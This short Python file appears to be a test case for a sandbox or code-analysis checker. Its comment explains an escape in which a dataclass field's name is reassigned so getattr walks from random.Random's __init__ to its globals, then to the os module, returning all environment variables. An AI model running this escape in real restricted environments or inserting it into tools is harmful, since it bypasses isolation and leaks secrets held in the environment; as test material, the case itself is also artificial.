# family: computed
# Escape: in `for f in dataclasses.fields(x)`, f.name is trusted to be a declared field name. Field objects are
# mutable: the tool assigns f.name (a public attribute store) right before using it, so getattr reads any
# attribute chosen at run time - here __init__ then __globals__ of random.Random, i.e. random's globals.
import dataclasses
import random


@dataclasses.dataclass
class Probe:
    first: int = 0
    second: int = 0


def tool(word: str = "globals") -> str:
    target = random.Random()
    names = ["__init__", "__" + word + "__"]
    for f in dataclasses.fields(Probe):
        f.name = names.pop(0)
        target = getattr(target, f.name)
    return str(target["_os"].environ)
